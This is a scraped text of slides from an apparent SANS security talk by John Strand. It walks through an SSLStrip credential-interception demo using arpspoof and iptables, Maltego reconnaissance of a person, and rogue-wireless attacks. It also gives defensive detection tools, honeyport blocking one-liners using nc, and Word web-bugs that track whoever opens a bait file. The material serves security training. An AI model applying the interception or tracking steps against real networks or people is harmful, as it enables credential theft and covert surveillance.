“But we do not have wireless in our network!” Are you sure? One access point can bypass all of yourexternal controls “Free Wireless Internet” anyone? Attackers do not need to find an access point They just need to find a client Karmetasploit is evil This also goes for your phone Do you use GSM?

56 Maltego By Paterva Focus is on “extreme” reconnaissance
GUI based display I know… I know.. But the GUI rocks We can pull Personal Information Sites Additional addresses Friends? Family? Intrests

57 Who is John Strand? Step 2: Click Here Step 3: Fill In Email Step 1:
Click Address

58 Starting the Transformations
Right click And Select All Transforms

59 It can be a lot of data Click Yes

60 What did we find Linkedin A friend

61 What about SSL? There are a number of different ways to hijack SSL
See WebMTIM from dsniff Unfortunately the user will receive “negative feedback” Just another way of saying they get a pop-up box Most users will click through The paranoid ones will not So how do you hijack the overly paranoid user?

62 We can use SSLStrip Another great tool from Moxie Marlinspike
This tool strips away SSL from the end user Hence the name The HTTPS will become HTTP No negative feedback to the user The vast number of users will not notice Even the very paranoid ones The 300 We need to use a tool like dsniff to hijack the traffic and a tool like iptables to redirect the traffic to where sslstrip is waiting

63 SSLStrip Get your targets IP and Gateway

64 SSL Strip

65 SSLStrip: iptables

66 SSLStrip: arpspoof67 SSLStrip: Got one! You should see some activity in SSLStrip!!
Now Surf to and try to log in! You should see some activity in SSLStrip!!

68 SSLStrip: Checking the logs
Looks like we got some data!!!

69 SSLStrip: Looking at the log

70 SSL Strip: /hackme Paydirt!!!

71 Starting over..

72 Back to Basics… Baseline your systems Baseline your network traffic
Processes, DLL’s for Core applications, Users, etc. Baseline your network traffic Why would you allow PLC systems to connect to the Internet? Monitor those baselines If at all possible, do this hourly Don’t use shady Russian contractors with compromised websites Train everyone, because everyone is a target Secure the human Yes, even you Sounds paranoid, I know

73 Risk and the 20 Critical Controls

74 Autostart Entry Points
There are a number of Autostart entry points on your Windowssystems Run RunOnce RunOnceEx There are a lot more of these than we can cover in a few slides Useruinit Boot.ini There needs to be a better way to look at what is going to automatically start on our Windows computers

75 Sysinternals Autoruns

76 Find Evil

77 Red Curtain

78 Malware Detection on Linux
Rather than look for specific malware we can also look for indications of compromise Rootkit Hunter and chkrootkit do this They also look for a few specific binaries Very easy to set up and use Looks for Certain hashes Wrong File permissions Hidden Files Orphaned files Why use both tools?

79 Sometimes the best way to know you are compromised is to check your DNS cache Not 100%, but nothing is This script queries your DNSserver and sees if there are any DNS entries that are for “bad” sites It can automatically pull down a blacklist and do a compare However, you can provide your own blacklist Best used daily (think Nagios)

80 Running
Good Bad

81 Offensive Countermeasures: Is this allowed?

82 The Split When discussing security we need to be of two separate minds
Offensive Defensive A little lesson on OODA loops Observe Orient Decide Act In our current defensive postures how can we do this

83 Dynamic Blacklisting Windows
@echo offfor /L %%i in (1,1,1) /f "tokens=3" %%j in ('netstat -nao ^| find ^":3333^"') /f "tokens=1 delims=:" %%k in ("%%j") do netsh advfirewall firewall add rulename="WTF" dir=in remoteip=%%k localport=any protocol=TCP action=block Easy copy and paste link from:

84 Dynamic Blacklisting Linux
~]# while [ 1 ] ; echo "started" ; do IP=`nc -v -l -p >&1 1> /dev/null | grep from | cut -d[ -f 3 | cut -d] -f 1`; iptables -A INPUT -p tcp -s ${IP} -j DROP ; done Easy copy and paste link from:

85 Portsentry Does the same thing we covered in the Blacklisting section
However, it does offer more flexibility Logging Rerouting traffic Blocking through hosts.deny A bit of an older tool (2003) but still surprisingly effective Set it up before an audit or a penetration test and make your Linux/Unix systems “go away” Still requires a listener (nc) on a honeyport.

86 Word Web-Bugs Very easy to use
Supposed to be used for penetration testing However this tactic works great at tracking intellectual property Not all ways of finding attribution needto result in shell access Far less likely to crash a system Embed this code in a spreadsheet called SSN.xls and watch how fast an attacker runs the macros

87 How does it Work? It simply inserts a reference to a css or image to a web server When the doc is opened it tries to open the URL Direct connection!

88 Metasploit De-cloak Engine
Hunting back where the attackers are coming from This is done by having the victim/attacker connect back using a number of applications Java iTunes Word FTP Quicktime DNS By having them connect in a number of different ways with different applications we increase the odds of finding their “real” IP address

89 Running the De-Cloak Engine90 Results

91 Implementing the Decloak Engine
You can use their servers Generate a MD5 string based on the attacker/victims information Embed an iframe directing them to the decloak site Recover the information gathered from You can also implement their API’s on your servers Implement a custom DNS server Create a Database for the results Embed the the Java and Flash applications from

92 SANS Denver!!! June 25-30
SANS Security Essentials Bootcamp Style Management414: SANS +S™ Training Program for the CISSP® Certification Exam ISACA10 = 10% off Management 512: SANS Security Leadership Essentials For Managers Security 504: Hacker Techniques, Exploits & Incident Handling Security 505: Securing Windows Developer 522: Defending WebApplications Security Essentials Forensics 558: Network Forensics

93 John’s Contact Information Strandjs = twitter

Download ppt "John Strand SANS Black Hills Information Security"

Similar presentations

Ads by Google